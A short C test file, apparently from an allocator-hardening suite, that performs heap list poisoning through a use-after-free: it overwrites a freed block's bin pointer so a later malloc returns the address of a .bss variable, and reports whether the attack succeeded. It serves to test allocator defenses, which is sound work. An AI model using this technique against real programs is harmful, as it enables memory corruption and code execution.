/* List poisoning through a use after free: one word written into a freed block's
 * first link (the exact-size bin's next pointer) makes a later malloc of that size
 * return an address of the attacker's choosing (a .bss variable). */
#include "sec.h"

static struct fake_block target;

int main(void)
{
    groom();
    flush_prepare();
    void *before = malloc(24), *a = malloc(24), *after = malloc(24);
    free(a);
    flush_quarantine(); /* a is now the head of its exact-size bin */
    fake_set(&target, size_of(before), 0);
    *link_of(launder(a), 0) = &target.link[0]; /* the use after free */
    for (int i = 0; i < 64; i++) /* whichever of the bin's blocks comes out first */
        if (malloc(24) == fake_user(&target))
            worked("malloc returned the address of a .bss variable");
    launder(before);
    launder(after);
    failed();
}
